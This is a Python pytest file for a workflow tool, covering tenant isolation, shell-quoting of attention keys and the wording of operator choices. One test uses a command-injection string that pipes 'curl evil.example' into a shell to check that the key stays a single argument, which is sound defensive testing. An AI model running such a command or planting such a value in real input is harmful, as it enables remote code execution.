"""One answer for many runs: page by page, each run once; failures are listed and do not stop the others."""

import asyncio
import shlex

import pytest

from outlast.core.approvals import Actor
from outlast.core.causes import flagged as with_flags
from outlast.core.commit import Commit, Put
from outlast.core.machine import CHOICES, Choice, Reason, RunStatus, consequence_of
from outlast.core.rows.run_columns import ATTENTION, WAITING_FOR, Attention, WaitingFor
from outlast.core.rows.run_rows import RUN, Run
from outlast.insight import attention_reads as attention
from outlast.runtime.operations import Operations
from outlast.runtime.stores import open_store
from outlast.store.port import Store
from tests.insight.situations import RUN as ROW

RUNS = 7


def flagged(n: int, reason: Reason, workflow: str = "refund") -> Run:
    """Return a flagged run of the tenant."""
    row = ROW._replace(
        tenant="default", run=f"r{n}", version=1, seq=1, status=RunStatus.WAITING, workflow=workflow,
        created_at=1_000 + n,
        waiting_for_text=WAITING_FOR.encode([WaitingFor("attention", f"a person: {reason.value}")]),
        attention_text=ATTENTION.encode([Attention(reason, 1_000 + n, "it broke")]),
    )  # fmt: skip
    return with_flags(row)


async def opened(*rows: Run) -> Operations:
    """Return a store with these rows."""
    store: Store = await open_store("memory:")
    for row in rows:
        await store.commit(Commit((Put(RUN, row, 0),)))
    return Operations(store, tenant="default", actor=Actor("local:ana"), workflows={})


@pytest.mark.req("RUN-5")
def test_no_board_shows_another_tenants_runs() -> None:
    async def go() -> None:
        ops = await opened(flagged(1, Reason.EXCEPTION))
        other = Operations(ops.store, tenant="other", actor=Actor("mallory"), workflows={})
        assert await other.rows.flagged() == ((), "") and await other.rows.held_up() == {}
        assert (await other.preview_bulk_answer(Reason.EXCEPTION, Choice.CONTINUE)).runs == 0
        await ops.store.close()

    asyncio.run(go())


def test_a_key_is_one_word_of_a_command_whatever_is_in_it() -> None:
    key = "A-17'; curl evil.example | sh #$(id)\n"
    uncertain = Attention(Reason.EFFECT_UNCERTAIN, 1_000, key=key, visit=1)
    run = flagged(1, Reason.EXCEPTION)._replace(attention_text=ATTENTION.encode([uncertain]))
    for each in attention.choice_commands(run, uncertain):
        assert shlex.split(each.command)[:5] == ["outlast", "effects", "resolve", "r1", key]


def test_each_choice_says_what_follows_from_it() -> None:
    """“Did not happen” calls again: an operator who does not read that pays twice."""
    uncertain = Attention(Reason.EFFECT_UNCERTAIN, 1_000, key="A-17", visit=1, name="charge_card")
    run = flagged(1, Reason.EXCEPTION)._replace(attention_text=ATTENTION.encode([uncertain]))
    told = {way.choice: way.consequence for way in attention.choice_commands(run, uncertain)}
    assert told == {
        Choice.HAPPENED: "nothing is called, and the run takes this answer",
        Choice.DID_NOT_HAPPEN: "charge_card is called again, unless the run was asked to end",
        Choice.GIVE_UP: "nothing is called, the outcome stays unknown, and the node gets the refusal given_up",
    }
    raised = Attention(Reason.EXCEPTION, 1_000, name="ValueError")
    first = attention.choice_commands(run, raised)[0]
    assert first.consequence == f"node {run.node} runs again with the current code; recorded calls are not repeated"


def test_every_choice_of_every_reason_has_its_own_words() -> None:
    for reason, choices in CHOICES.items():
        words = [consequence_of(choice, reason, call="pay", node="charge") for choice in choices]
        assert len(set(words)) == len(choices) and not [each for each in words if "{" in each]
